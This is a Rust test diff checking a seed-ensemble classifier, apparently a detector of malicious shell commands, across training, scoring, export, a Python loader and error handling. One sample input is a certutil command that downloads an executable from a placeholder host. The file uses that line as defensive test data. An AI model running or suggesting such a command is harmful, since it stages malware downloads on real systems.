@@ -590,3 +590,157 @@ fn a_closed_output_pipe_is_a_normal_end() {
     assert_eq!(out.status.code(), Some(0), "{stderr}");
     assert!(!stderr.contains("error"), "{stderr}");
 }
+
+/// A seed ensemble is one model directory: K members trained on distinct seeds, scored as the
+/// sigmoid of their mean logit by `classify`, exported whole, reproduced by the Python loader,
+/// and refused with a clear error when a member is missing.
+#[test]
+fn seed_ensemble_trains_scores_exports_and_the_python_loader_agrees() {
+    let dir = tempfile::tempdir().unwrap();
+    let d = |p: &str| dir.path().join(p).display().to_string();
+    let train = subset(
+        dir.path(),
+        &[("nl2bash.jsonl", 400), ("atomic_red_team.jsonl", 150)],
+    );
+    std::fs::write(
+        d("tiny.toml"),
+        "[model]\nembed_dim = 8\nfilters = 8\nwidths = [2, 3]\nmax_len = 64\n\
+         [optim]\nepochs = 1\nlr = 0.01\n",
+    )
+    .unwrap();
+    let train_args = |out: &str, k: &str| {
+        longtail_ok(&[
+            "--seed",
+            "5",
+            "train-classifier",
+            "--train",
+            &train.display().to_string(),
+            "--config",
+            &d("tiny.toml"),
+            "--ensemble",
+            k,
+            "--out",
+            &d(out),
+        ]);
+    };
+    train_args("single", "1");
+    train_args("ens", "3");
+    let bundle: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(d("ens/config.json")).unwrap()).unwrap();
+    assert_eq!(bundle["config"]["ensemble"], 3);
+    let seeds: Vec<u64> = bundle["members"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|m| m["seed"].as_u64().unwrap())
+        .collect();
+    assert_eq!(seeds.len(), 3);
+    assert_eq!(
+        seeds[0], 5,
+        "member 0 keeps the seed: ensemble = 1 is the single network"
+    );
+    assert!(
+        seeds[1] != seeds[2] && seeds[1] != 5 && seeds[2] != 5,
+        "{seeds:?}"
+    );
+    for m in 0..3 {
+        assert!(
+            dir.path()
+                .join(format!("ens/members/{m}/model.safetensors"))
+                .exists()
+        );
+    }
+
+    // Member 0 is the single network; the ensemble's score is the sigmoid of the mean logit.
+    let g = globals();
+    let single = Classifier::load(&dir.path().join("single"), &g).unwrap();
+    let ens = Classifier::load(&dir.path().join("ens"), &g).unwrap();
+    assert_eq!((single.members.len(), ens.members.len()), (1, 3));
+    let lines = [
+        "ls -la",
+        "certutil -urlcache -split -f http://x/a.exe a.exe",
+        "git status",
+    ];
+    let logit = |p: f64| (p / (1.0 - p)).ln();
+    let ens_scores = ens.score(&lines, 4096, |_| {});
+    let mut member_logits = vec![0.0; lines.len()];
+    for m in 0..3 {
+        let path = dir.path().join(format!("ens/members/{m}"));
+        // A member folder is not a classifier folder; score it through a one-member copy.
+        let solo = dir.path().join(format!("solo{m}"));
+        std::fs::create_dir_all(&solo).unwrap();
+        std::fs::copy(
+            path.join("model.safetensors"),
+            solo.join("model.safetensors"),
+        )
+        .unwrap();
+        std::fs::copy(d("single/config.json"), solo.join("config.json")).unwrap();
+        std::fs::copy(d("single/threshold.json"), solo.join("threshold.json")).unwrap();
+        let solo = Classifier::load(&solo, &g).unwrap();
+        for (acc, s) in member_logits
+            .iter_mut()
+            .zip(solo.score(&lines, 4096, |_| {}))
+        {
+            *acc += logit(s) / 3.0;
+        }
+        if m == 0 {
+            assert_eq!(
+                solo.score(&lines, 4096, |_| {}),
+                single.score(&lines, 4096, |_| {})
+            );
+        }
+    }
+    for (e, z) in ens_scores.iter().zip(&member_logits) {
+        assert!(
+            (logit(*e) - z).abs() < 1e-4,
+            "{ens_scores:?} vs mean logits {member_logits:?}"
+        );
+    }
+
+    // CLI, export, Python loader.
+    std::fs::write(d("lines.txt"), lines.join("\n") + "\n").unwrap();
+    longtail_ok(&["export", "--model", &d("ens"), "--out", &d("models/ens")]);
+    for m in 0..3 {
+        assert!(
+            dir.path()
+                .join(format!("models/ens/members/{m}/model.safetensors"))
+                .exists()
+        );
+    }
+    let card = std::fs::read_to_string(d("models/ens/README.md")).unwrap();
+    assert!(card.contains("seed ensemble of 3"), "{card}");
+    longtail_ok(&[
+        "classify",
+        "--model",
+        &d("models/ens"),
+        &d("lines.txt"),
+        "-o",
+        &d("scores.jsonl"),
+    ]);
+    python_loader_agrees(
+        &dir.path().join("models/ens"),
+        &dir.path().join("scores.jsonl"),
+        3,
+    );
+
+    // A missing member is an input error that names it, not a panic or a silent K-1 ensemble.
+    std::fs::remove_file(d("models/ens/members/2/model.safetensors")).unwrap();
+    let out = longtail()
+        .args([
+            "--device",
+            "flex",
+            "-q",
+            "classify",
+            "--model",
+            &d("models/ens"),
+            &d("lines.txt"),
+        ])
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(
+        stderr.contains("missing ensemble member 2 of 3"),
+        "{stderr}"
+    );
+}
